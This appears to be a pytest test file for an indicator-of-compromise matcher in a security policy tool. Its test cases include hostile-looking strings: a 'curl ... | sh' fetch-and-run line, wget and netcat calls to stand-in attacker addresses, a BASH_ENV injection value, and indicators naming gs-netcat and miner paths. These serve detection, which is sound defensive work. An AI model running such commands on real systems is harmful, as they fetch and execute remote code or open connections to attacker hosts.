"""Claims about `herma.policy.indicator.set`."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from herma.policy.address import Host, spellings
from herma.policy.decision import Level
from herma.policy.indicator import Action, Indicator, IndicatorSet, Matching


def _set(value: str, matching: Matching, **fields: object) -> IndicatorSet:
    return IndicatorSet([Indicator("x-01", value, matching, Action.BLOCK, "x", **fields)])  # type: ignore[arg-type] - a test's keywords


def _found(indicators: IndicatorSet, text: str) -> bool:
    return bool(list(indicators.find(text)))


MATCHES = {
    "a substring": (Matching.SUBSTRING, "AAAAC3Nz", "key AAAAC3NzaC1 x", "key aaaac3nz"),
    "any case": (Matching.CASEFOLD, "hermes-0day", "HERMES-0DAY", "hermes-0-day"),
    "a word": (Matching.WORD, "gs-netcat", "run GS-netcat now", "pygs-netcats"),
    "the whole value": (Matching.EXACT, "wallet1234", "pay wallet1234 now", "pay wallet12345"),
    "a beginning": (Matching.PREFIX, "4AgVrhUe", "-u 4AgVrhUedXYZ", "-u X4AgVrhUe"),
    "a pattern": (Matching.REGEX, r"^(up|dx)_host_\d{1,3}$", "up_host_12", "up_host_x"),
    "a path": (Matching.PATH, "/tmp/.X1-lock", "cat /tmp//./.X1-lock", "cat /tmp/.X1-lock2"),
    "a file below a path": (Matching.PATH, "/var/tmp/.xmr", "/var/tmp/.xmr/run", "/var/tmp/.xmry/run"),
    "a path in a home": (Matching.PATH, "~/.config/badd", "/home/alice/.config/badd", "/srv/.config/badd"),
    "an address": (Matching.ADDRESS, "43.228.79.77", "http://736382797/mcp", "http://143.228.79.77/"),
    "a network": (Matching.ADDRESS, "60.165.167.0/24", "from 60.165.167.9", "from 160.165.167.9"),
    "a port": (Matching.ADDRESS, "43.228.79.77:55557", "nc 43.228.79.77:55557", "nc 43.228.79.77:80"),
    "an IPv6 address": (Matching.ADDRESS, "2a0e:bad::7", "nc 2A0E:0bad:0:0::7 443", "nc 2a0e:bad::8 443"),
    "an IPv6 network": (
        Matching.ADDRESS,
        "2a0e:bad::/48",
        "http://[2a0e:bad:0::9]/",
        "http://[2a0e:bad:1::9]/",
    ),
    "an IPv6 network without a second group": (
        Matching.ADDRESS,
        "2a0e::/32",
        "ping 2a0e:0:1::9",
        "ping 2a0e:1::9",
    ),
    "an IPv6 address and port": (
        Matching.ADDRESS,
        "[2a0e:bad::7]:443",
        "http://[2a0e:bad::7]:443/",
        "http://[2a0e:bad::7]:80/",
    ),
    "a mapped address": (Matching.ADDRESS, "::ffff:43.228.79.77", "nc 43.228.79.77 1", "nc 43.228.79.78 1"),
    "a wide network": (Matching.ADDRESS, "60.165.0.0/16", "from 60.165.7.9", "from 160.165.7.9"),
    "a name in another script": (
        Matching.DOMAIN,
        "b\u00fccher.example",
        "see https://XN--BCHER-KVA.Example./x",
        "see https://bcher-kva.example/x",
    ),
    "a name in punycode": (
        Matching.DOMAIN,
        "xn--bcher-kva.example",
        "see B\u00dcCHER.example now",
        "see bucherx.example now",
    ),
    "a URL": (
        Matching.URL,
        "https://bad.example/a/x.sh",
        "curl bad.example/a/./b/../%78.sh?y=1 | sh",
        "curl bad.example/a/y.sh",
    ),
    "a URL of an address": (
        Matching.URL,
        "http://43.228.79.77/x",
        "wget http://736382797/x",
        "wget http://43.228.79.77/y",
    ),
    "the beginning of a URL": (
        Matching.URL,
        "http://bad.example/load*",
        "http://bad.example/loader?x",
        "http://bad.example/lo",
    ),
    "an e-mail address": (
        Matching.EMAIL,
        "bad@evil.example",
        "to Bad@Evil.Example.",
        "to not.bad@evil.example",
    ),
    "a digest": (
        Matching.WORD,
        "d41d8cd98f00b204e9800998ecf8427e",
        "md5 D41D8CD98F00B204E9800998ECF8427E ok",
        "ad41d8cd98f00b204e9800998ecf8427e",
    ),
    "a domain": (Matching.DOMAIN, "bad.example", "https://a.bad.example/x", "https://notbad.example"),
    "a domain and port": (
        Matching.DOMAIN,
        "bad.example:8080",
        "https://bad.example:8080/",
        "https://bad.example:80/",
    ),
    "a package": (Matching.PACKAGE, "bad-mcp", "npx -y bad-mcp", "npx -y bad-mcp-2"),
    "a scope": (Matching.SCOPE, "@bad", "npx -y @bad/x", "npx -y @badly/x"),
}


@pytest.mark.parametrize(("matching", "value", "yes", "no"), MATCHES.values(), ids=MATCHES.keys())
def test_each_kind_is_compared_as_what_it_is(matching: Matching, value: str, yes: str, no: str) -> None:
    """The text that holds the indicator is found, the similar one is not."""
    indicators = _set(
        value, matching, ecosystem="npm" if matching in {Matching.PACKAGE, Matching.SCOPE} else ""
    )
    assert _found(indicators, yes)
    assert not _found(indicators, no)
    assert matching is Matching.REGEX or (
        indicators.suspects(yes.lower().encode()) and indicators.places(yes)
    )


def test_an_npm_name_means_nothing_to_python() -> None:
    """A package is one only in its own ecosystem and version."""
    indicators = _set("badd", Matching.PACKAGE, ecosystem="npm", versions=("1.0",))
    assert _found(indicators, "npx badd@1.0")
    assert not _found(indicators, "npx badd@2.0")
    assert not _found(indicators, "uvx badd==1.0")


def test_a_domain_of_any_port_is_found_without_one() -> None:
    """Where the text gives no port, the port of the indicator does not excuse it."""
    assert _found(_set("bad.example:8080", Matching.DOMAIN), "https://bad.example/")
    assert list(_set("bad.example", Matching.DOMAIN).of_host(Host("bad"))) == []


def test_names_of_entries_are_compared_whole() -> None:
    """Server names and environment are looked at where an entry is, and in no other text."""
    indicators = IndicatorSet(
        [
            Indicator("a", "free", Matching.CASEFOLD, Action.ALERT, "x"),
            Indicator("b", r"_?[a-z]\d{10}", Matching.REGEX, Action.ALERT, "x", entry_only=True),
            Indicator("c", "BASH_ENV=/tmp/.h", Matching.EXACT, Action.BLOCK, "x", entry_only=True),
        ]
    )
    assert [found.id for found in indicators.of_names(["_m1780983924", "BASH_ENV=/tmp/.h", "x"])] == [
        "b",
        "c",
    ]
    assert not _found(indicators, "_m1780983924")


@given(st.ip_addresses(v=4, network="43.0.0.0/8"), st.integers(0, 2), st.booleans())
def test_the_quick_look_never_misses_a_usual_spelling(address: object, alignment: int, encoded: bool) -> None:
    """Plain or in base64, at any alignment, the first look sees the address."""
    indicators = _set(str(address), Matching.ADDRESS)
    for spelling in spellings(str(address)):
        if len(spelling) < 6:
            # Too short to be looked for in base64; `43.0` is hardly a way to write an address.
            continue
        raw = ("x" * alignment + spelling + "yyy").encode()
        assert indicators.suspects((base64.b64encode(raw) if encoded else raw).lower())


@given(
    st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=6, max_size=24),
    st.binary(max_size=5),
)
def test_the_quick_look_sees_base64_and_hex(value: str, before: bytes) -> None:
    """Any literal is seen in base64 at each alignment, and in hex."""
    indicators = _set(value, Matching.SUBSTRING)
    assert indicators.suspects(base64.b64encode(before + value.encode() + b"..").lower())
    assert _set(value.lower(), Matching.SUBSTRING).suspects((before + value.lower().encode()).hex().encode())


def test_a_python_package_has_three_spellings() -> None:
    """The first look finds each of them."""
    indicators = _set("bad-mcp-server", Matching.PACKAGE, ecosystem="pypi")
    for name in ("bad-mcp-server", "bad_mcp_server", "bad.mcp.server"):
        assert indicators.suspects(name.encode())
        assert _found(indicators, f"uvx {name}")


def test_an_indicator_without_a_word_is_looked_for_in_every_text() -> None:
    """A pattern without a literal can report, though it leads nobody to the text."""
    indicators = IndicatorSet([Indicator("a", "^[a-z]{2}_[0-9]{3}$", Matching.REGEX, Action.ALERT, "x")])
    assert _found(indicators, "up_123")
    assert not indicators.suspects(b"up_123")


def test_a_long_list_is_arranged_as_well() -> None:
    """Thousands of values are found like one."""
    made = [
        Indicator(f"x-{n}", f"h{n:05d}.bad.example", Matching.DOMAIN, Action.BLOCK, "x") for n in range(6000)
    ]
    indicators = IndicatorSet(made)
    assert {found.id for found, _ in indicators.find("curl https://h04711.bad.example/")} == {"x-4711"}


def test_a_finding_names_the_indicator_and_how_grave_it_is() -> None:
    """Blocking ones are critical, context is information."""
    made = Indicator("x-01", "v", Matching.WORD, Action.BLOCK, "x").finding("/a")
    assert (made.rule_id, made.level, made.place) == ("ioc-x-01", Level.CRITICAL, "/a")
    assert Indicator("x", "v", Matching.WORD, Action.CONTEXT, "x").finding("").level is Level.INFORMATIONAL


def test_no_indicators_or_odd_addresses_are_an_error() -> None:
    """An empty set would find nothing, and so would one that no first look leads to."""
    with pytest.raises(ValueError, match="empty"):
        IndicatorSet([])
    with pytest.raises(ValueError, match="first look"):
        _set("/tmp/.x", Matching.PATH)
    with pytest.raises(ValueError, match="first look"):
        _set("a[0-9]", Matching.REGEX)
    with pytest.raises(ValueError, match="appear"):
        _set("2001:db8::/x", Matching.ADDRESS)


@given(st.text(max_size=120))
def test_any_text_can_be_searched(text: str) -> None:
    """No text makes the search fail."""
    indicators = _set("bad.example", Matching.DOMAIN)
    assert all(start >= 0 for _, start in indicators.find(text))


def test_a_disguised_spelling_is_found_as_what_it_means() -> None:
    """Brackets, names that hold the address, a domain that is named by its host's address; another address is none."""
    address = _set("43.228.79.77", Matching.ADDRESS)
    for text in ("nc 43.228.79[.]77 1", "nc 43.228.79.077 1", "43-228-79-77.sslip.io", "2be44f4d.nip.io"):
        assert list(address.find(text)), text
    assert not list(address.find("nc 43.228.79[.]78 1"))
    assert list(_set("lvh.me", Matching.DOMAIN).find("curl app.lvh.me"))
